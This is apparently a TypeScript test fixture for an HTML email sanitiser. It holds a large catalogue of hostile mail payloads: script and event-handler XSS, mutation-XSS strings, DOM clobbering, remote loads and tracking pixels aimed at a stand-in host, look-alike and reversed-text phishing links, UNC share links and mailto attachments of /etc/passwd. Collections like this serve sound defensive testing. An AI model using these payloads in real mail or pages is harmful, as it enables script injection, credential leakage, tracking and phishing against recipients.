/** A mail that wants something of its reader that it must not get. */
export interface HostileMail {
  readonly name: string;
  readonly html: string;
}

/** What a hostile script does where one runs: it puts its number on a list of the window in front. */
const RUN = 'top.ran=[NUMBER].concat(top.ran||[])';
/** Where a mail calls to; the number says which. */
const HOME = 'http://mNUMBER.hostile.test';
const COVER = 'position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red';
const SVG = btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${HOME}"/></svg>`);

const scripts = {
  script: `<script>${RUN}</script>`,
  'script in an svg': `<svg><script>${RUN}</script></svg>`,
  'script from elsewhere': `<script src="${HOME}/x.js"></script><script type=module src="${HOME}/m.js"></script>`,
  'script of half a tag': `<p>x<script >${RUN}</script foo="bar"><script/x>${RUN}</script>`,
  'script that splits itself': `<scr<script>${RUN}</script>ipt>${RUN}</scr</script>ipt>`,
  handlers: `<img src=x onerror="${RUN}"><body onload="${RUN}"><details open ontoggle="${RUN}">x</details>`,
  'handlers of focus': `<input autofocus onfocus="${RUN}"><a id=x tabindex=1 autofocus onfocus="${RUN}">x</a>`,
  'handlers of animation': `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="${RUN}" onanimationend="${RUN}">x`,
  'handlers of transition': `<style>p{transition:all 1ms}p:hover{color:red}</style><p ontransitionend="${RUN}">x`,
  'handlers of media': `<video onerror="${RUN}"><source onerror="${RUN}" src=x></video><audio src onerror="${RUN}">`,
  'handlers after a slash': `<img/src=x/onerror="${RUN}"><svg/onload="${RUN}">`,
  'handlers after a NUL': `<img src=x \u0000onerror="${RUN}"><img src=x on\u0000error="${RUN}">`,
  'handlers in backquotes': `<img src=\`x\` onerror=\`${RUN}\`><img src="x\` \`<script>${RUN}</script>"\` \`>`,
  'marquee and meter': `<marquee onstart="${RUN}" loop=1 width=0 onfinish="${RUN}">x</marquee><meter onmouseover="${RUN}" value=2>`,
  'an object': `<object data="data:text/html,<script>${RUN}</script>" onerror="${RUN}"></object><embed src="javascript:${RUN}">`,
  'an applet': `<applet code=x archive="${HOME}/a.jar" onerror="${RUN}"><param name=x value=y></applet>`,
  'a frame of markup': `<iframe srcdoc="<script>${RUN}</script><img src=${HOME}>"></iframe>`,
  'a frame of script': `<iframe src="javascript:${RUN}"></iframe><frameset><frame src="javascript:${RUN}"></frameset>`,
  'a portal and a fenced frame': `<portal src="${HOME}"></portal><fencedframe src="${HOME}"></fencedframe>`,
  'a form of script': `<form action="javascript:${RUN}"><input type=submit autofocus><button formaction="javascript:${RUN}">go</button></form>`,
  'a base of script': `<base href="javascript:${RUN}//"><a href="x">x</a><form action="y"><button>z</button></form>`,
  'a refresh to script': `<meta http-equiv=refresh content="0;url=javascript:${RUN}"><meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  'script in a style': `<style>p{width:expression(${RUN});behavior:url(#default#time2);-moz-binding:url(${HOME}#x)}</style><p>x`,
  'script as xml': `<?xml version="1.0"?><?xml-stylesheet href="${HOME}/x.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script>`,
  'xlink and xml:base': `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a><g xml:base="${HOME}"><use href="y"/></g></svg>`,
  'animated links': `<svg><a><animate attributeName=href values="javascript:${RUN}" begin=0s fill=freeze /><text y=20>x</text></a><set attributeName=onclick to="${RUN}" /></svg>`,
  'animation handlers': `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg><svg><discard onbegin="${RUN}"></svg>`,
  'script in foreign content': `<svg><foreignObject><body onload="${RUN}"><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  math: `<math href="javascript:${RUN}"><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x</maction></math>`,
};

/** What other sanitisers were fooled by: markup that changes when it is written out and read again. */
const mutations = {
  'mXSS of mglyph': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  'mXSS of malignmark': `<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'mXSS of an svg style': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'mXSS of noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'mXSS of a textarea': `<svg><textarea><img title="</textarea><img src=x onerror=${RUN}>"></svg>`,
  'mXSS of a title': `<svg><title><style><img title="</style></title><img src=x onerror=${RUN}>"></svg>`,
  'mXSS of xmp': `<xmp><p id="</xmp><img src=x onerror=${RUN}>">`,
  'mXSS of noembed': `<noembed><p id="</noembed><img src=x onerror=${RUN}>"><noframes><p id="</noframes><img src=x onerror=${RUN}>">`,
  'mXSS of a comment': `<!--><img src=x onerror="${RUN}">--><!---><img src=x onerror="${RUN}">--><!--x--!><img src=x onerror="${RUN}">`,
  'mXSS of a processing instruction': `<?x ><img src=x onerror="${RUN}">?><!x ><img src=x onerror="${RUN}">`,
  'mXSS of character data': `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg><![CDATA[><img src=x onerror="${RUN}">]]>`,
  'mXSS of a template': `<template><style><!--</template><img src=x onerror="${RUN}">--></style></template>`,
  'mXSS of a select': `<select><style></select><img src=x onerror="${RUN}"></style></select>`,
  'mXSS of a table': `<table><caption><svg><style></caption><img src=x onerror="${RUN}"></style></svg></caption></table>`,
  'mXSS of nested headings': `${'<div>'.repeat(520)}<table><h1><svg><style><img src=x onerror="${RUN}"></style>`,
  'mXSS of annotation-xml': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
  'mXSS of deep forms': `${'<form><div>'.repeat(300)}<math><mtext></form><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${RUN}>">`,
  'mXSS of a custom element': `<x-y is=script><p is="x-y" onclick="${RUN}"><font-face><style><img src=x onerror="${RUN}"></style></font-face>`,
  'a plain text that never ends': `<plaintext><img src=x onerror="${RUN}"></plaintext><script>${RUN}</script>`,
  'a shadow': `<div><template shadowrootmode=open><img src="${HOME}" onerror="${RUN}"><slot></slot></template>x</div>`,
};

const clobbering = {
  'clobbers the document': `<img name=body><img name=head><form name=documentElement><input name=body></form><form id=createElement><a id=querySelectorAll>`,
  'clobbers nodes': `<form><input name=attributes><input name=nextSibling><input name=firstChild><input name=localName><p onclick="${RUN}">x</form>`,
  'clobbers the page': `<a id=sealpost-body name=sealpost-body>x</a><form id=sealpost-passphrase><input name=value></form><div id=sealpost-alert data-action=lock>x</div>`,
  'clobbers the window': `<a id=top href="x"></a><a id=parent></a><a id=location></a><iframe name=self></iframe><form id=globalThis></form>`,
  'clobbers prototypes': `<form id=__proto__ name=__proto__><input name=constructor><input name=toString></form><a id=hasOwnProperty>`,
  'looks like the page': `<main class="card message"><div class=bar><button data-action=lock id=sealpost-lock>Lock</button></div><input id=sealpost-passphrase></main>`,
};

const calls = {
  pictures: `<img src="${HOME}/a"><img srcset="${HOME}/b 1x, ${HOME}/c 2x"><img src=//mNUMBER.hostile.test/d><img src="\\\\mNUMBER.hostile.test\\e">`,
  'pictures of a picture': `<picture><source srcset="${HOME}/a"><source srcset="${HOME}/b" media=print><img src="${HOME}/c" lowsrc="${HOME}/d" dynsrc="${HOME}/e" longdesc="${HOME}/f"></picture>`,
  'pictures with a base': `<base href="${HOME}/"><img src=a><table background=b><td background=c>x</table><body background=d>`,
  'pictures of another scheme': `<img src="ftp://mNUMBER.hostile.test"><img src="ws://mNUMBER.hostile.test"><img src="file://mNUMBER.hostile.test/x"><img src="https://mNUMBER.hostile.test">`,
  'pictures spelled otherwise': `<img src=" \n h\tt\ntp://mNUMBER.hostile.test/a"><img src="HTTP:\\\\mNUMBER.hostile.test/b"><img src="http&#58;//mNUMBER.hostile.test/c"><image src="${HOME}/d">`,
  'pictures that wait': `<img loading=lazy src="${HOME}/a"><img loading=eager decoding=async fetchpriority=high crossorigin src="${HOME}/b">`,
  'a picture in a data: picture': `<img src="data:image/svg+xml;base64,${SVG}"><object data="data:image/svg+xml;base64,${SVG}"></object><iframe src="data:image/svg+xml;base64,${SVG}"></iframe>`,
  media: `<video src="${HOME}/a" poster="${HOME}/b" autoplay muted></video><audio src="${HOME}/c" autoplay></audio><video><track default src="${HOME}/d"></video><bgsound src="${HOME}/e">`,
  'links that load': `<link rel=stylesheet href="${HOME}/a"><link rel=icon href="${HOME}/b"><link rel=preload as=image href="${HOME}/c"><link rel=modulepreload href="${HOME}/d">`,
  'links that hint': `<link rel=prefetch href="${HOME}/a"><link rel=preconnect href="http://hostile.test"><link rel=dns-prefetch href="//hostile.test"><link rel=prerender href="${HOME}/b">`,
  'rules of speculation': `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${HOME}"]}]}</script><link rel=manifest href="${HOME}/m">`,
  frames: `<iframe src="${HOME}/a"></iframe><frameset><frame src="${HOME}/b"></frameset><embed src="${HOME}/c"><object data="${HOME}/d"><param name=src value="${HOME}/e"></object>`,
  'frames from blob: and data:': `<iframe src="blob:null/1"></iframe><iframe src="data:text/html,<img src=${HOME}>"></iframe><iframe src="filesystem:${HOME}"></iframe>`,
  'a refresh': `<meta http-equiv=refresh content="0;url=${HOME}"><meta http-equiv="Link" content="<${HOME}>;rel=preload;as=image"><meta http-equiv=set-cookie content="a=b">`,
  'an input': `<input type=image src="${HOME}/a"><button style="background:url(${HOME}/b)">x</button><isindex action="${HOME}/c">`,
  forms: `<form action="${HOME}" method=post target=_top><input name=secret autofocus><input type=submit></form><input form=x formaction="${HOME}"><keygen>`,
  'an svg': `<svg><image href="${HOME}/a"/><use href="${HOME}/b#x"/><filter id=f><feImage href="${HOME}/c"/></filter><rect width=9 height=9 filter="url(#f)"/><style>@import "${HOME}/d";</style></svg>`,
  'a style': `<style>@import "${HOME}/a";@import url(${HOME}/b) layer(x);@font-face{font-family:x;src:url(${HOME}/c)}body{font-family:x;background:url(${HOME}/d)}</style>x`,
  'a style in parts': `<style>@im\\port "${HOME}/a";p{background:u\\72l(${HOME}/b)}p{background:url( "${HOME}/c" )}/*</style><p>x`,
  'a style with a namespace': `<style>@namespace url(${HOME}/a);@charset "x";@layer x;@supports(color:red){p{background:url(${HOME}/b)}}@container(width>0){p{background:url(${HOME}/c)}}</style><p>x`,
  'a style of images': `<style>p{background:image-set("${HOME}/a" 1x);background:cross-fade(url(${HOME}/b),url(${HOME}/c));list-style:url(${HOME}/d);border-image:url(${HOME}/e);cursor:url(${HOME}/f),auto;mask:url(${HOME}/g);content:url(${HOME}/h)}</style><p>x`,
  'a style with variables': `<style>:root{--x:url(${HOME}/a)}p{background:var(--x)}p::before{content:var(--x)}@property --y{syntax:"<url>";inherits:true;initial-value:url(${HOME}/b)}</style><p>x`,
  'a style that reads': `<style>input[value^=a]{background:url(${HOME}/a)}a[href*=b]{background:url(${HOME}/b)}p:has(b){background:url(${HOME}/c)}</style><input value=abc><a href="http://b.test">x</a><p><b>x</b>`,
  'a style of print': `<style media=print>p{background:url(${HOME}/a)}</style><style>@media print{p{background:url(${HOME}/b)}}@page{background:url(${HOME}/c)}</style><p>x`,
  'a style in place': `<p style="background:url(${HOME}/a)">x<p style="background-image:url('${HOME}/b')">x<p style='list-style:url("${HOME}/c")'>x<font style="filter:url(${HOME}/d)">x`,
  'a style that is escaped': `<p style="background:\\75\\72\\6c(${HOME}/a)">x<p style="background:url(&quot;${HOME}/b&quot;)">x<p style="background/**/:/**/url(${HOME}/c)">x`,
  'attributes that load': `<a href="http://x.test" ping="${HOME}/a" attributionsrc="${HOME}/b">x</a><img attributionsrc="${HOME}/c"><html manifest="${HOME}/d"><head profile="${HOME}/e"><q cite="${HOME}/f">x</q>`,
  'a share of the file system': `<img src="\\\\mNUMBER.hostile.test\\share\\x.png"><a href="\\\\hostile.test\\share">x</a><a href="file://///hostile.test/share">x</a><link rel=stylesheet href="\\\\mNUMBER.hostile.test.css">`,
  'markup for Office': `<!--[if mso]><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="${HOME}/a" type=frame /><v:imagedata src="${HOME}/b"/></v:rect><![endif]--><o:p></o:p><v:background><v:fill src="${HOME}/c"></v:background>`,
};

const links = {
  'links of script': `<a href="javascript:${RUN}">a</a><a href="JaVa\tScript:${RUN}">b</a><a href="&#1;javascript&colon;${RUN}">c</a><area href="javascript:${RUN}"><a href="vbscript:${RUN}">d</a>`,
  'links of data': `<a href="data:text/html,<script>${RUN}</script>">a</a><a href="blob:null/x">b</a><a href="view-source:data:x">c</a><a download href="data:text/html,x">d</a>`,
  'links to programs': `<a href="search-ms:query=x">a</a><a href="ms-msdt:/id x">b</a><a href="ms-word:ofe|u|http://x">c</a><a href="file:///etc/passwd">d</a><a href="intent://x#Intent;end">e</a>`,
  'links with another label': `<a href="http://mNUMBER.hostile.test">https://bank.example</a><a href="http://bank.example@hostile.test/">bank.example</a><a href="http://hostile.test/"><span hidden>hostile.test</span>bank.example</a>`,
  'links of look-alikes': `<a href="http://xn--80ak6aa92e.com">apple.com</a><a href="http://bank.example\u2215x.hostile.test">bank.example/x</a><a href="http://bank.example%2ehostile.test/">x</a>`,
  'links that turn': `<a href="http://hostile.test/\u202Egnp.exe">x</a><p dir=rtl><a href="http://hostile.test">\u202Emoc.knab\u202C</a>\u2066\u2066\u2066\u202E`,
  'links that cover': `<a href="http://hostile.test" style="${COVER}"><div style="${COVER}">x</div></a>`,
  'mail links that attach': `<a href="mailto:a@b.test?attach=/etc/passwd&attachment=/x&insert=y&bcc=c@d.test&subject=s%0D%0ABcc:x@y.test">m</a>`,
};

const covers = {
  'covers all': `<div style="${COVER}">x</div>`,
  'covers all by a sheet': `<style>html,body,div,*{${COVER.replaceAll(';', '!important;')}!important}</style><div>x</div>`,
  'covers all from the top layer': `<div popover=manual style="${COVER}">x</div><dialog open style="${COVER}">x</dialog><div id=p popover>y</div><button popovertarget=p>z</button>`,
  'is moved': `<p style="margin:-9999px;position:relative;top:-9999px;transform:translate(-9999px,-9999px) scale(99)">x<p style="translate:0 -999px;inset:-999px;offset:path('M0 0')">y`,
  'is as large as the world': `<div style="height:9999999px;width:9999999px;padding:9999999px">x</div><p style="min-height:1e30px">y<hr size=9999999 width=9999999><table height=9999999><td>x</table>`,
  'grows with its frame': `<style>html,body{height:200%}div{height:110vh;min-height:110vh;height:110dvb}</style><div>x</div><p style="margin-top:100%;padding-top:100vh">y`,
  'anchors itself': `<style>p{position:sticky;top:0;position-anchor:--x;anchor-name:--x;inset-area:top;float:left;shape-outside:inset(0)}</style><p>x`,
  'types where nobody looks': `<style>body{font-size:9999px;line-height:99999;zoom:99;letter-spacing:9999px}</style>x`,
  'hides what comes later (kobold letters)': `<style>.k{display:none}blockquote .k,.gmail_quote .k{display:block}.moz-text-html .k{display:block}</style><p class=k>hidden until it is forwarded`,
  'text that turns everything': `\u202E${'\u2067\u202B'.repeat(70)}desrever<bdo dir=rtl>reversed</bdo><p style="direction:rtl;unicode-bidi:bidi-override">x`,
  'text of marks': `Z${'\u0300\u0489\u20DD'.repeat(5000)} \uFDFD\u{12219}${'\u200B\u2060\uFEFF\u00AD'.repeat(999)}`,
};

const charsets = {
  'says it is UTF-7': `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  'says it is UTF-16': `<meta charset=utf-16><meta http-equiv=content-type content="text/html;charset=utf-16le"><p>\uFEFF<script>${RUN}</script>`,
  'says it is Japanese': `<meta charset=iso-2022-jp>\u001B$B<img src=x onerror="${RUN}">\u001B(B<meta charset=shift_jis><p title="\u0081">x" onclick="${RUN}">`,
  'holds what is no character': `<p>\uD800\uDFFF\u0000\uFFFE\uFFFF<p title="\uD83D" class="\u0000a">x<\u0000script>${RUN}</script><img\u000Bsrc=x\u000Conerror="${RUN}">`,
  'holds controls': `<p>${Array.from({ length: 160 }, (_, code) => String.fromCharCode(code)).join('')}<p>&#0;&#128;&#xD800;&#x110000;&#99999999999;`,
};

/** What a mail's text does to the page, by name; a number makes each of its calls known. */
export const hostileMails: readonly HostileMail[] = Object.entries({
  ...scripts,
  ...mutations,
  ...clobbering,
  ...calls,
  ...links,
  ...covers,
  ...charsets,
}).map(([name, html], number) => ({ name, html: html.replaceAll('NUMBER', String(number)) }));

/** Of these, the ones that cover a page that is not defended. */
export const coveringMails: readonly HostileMail[] = hostileMails.filter(
  ({ name }) => name.startsWith('covers all') || name === 'links that cover',
);
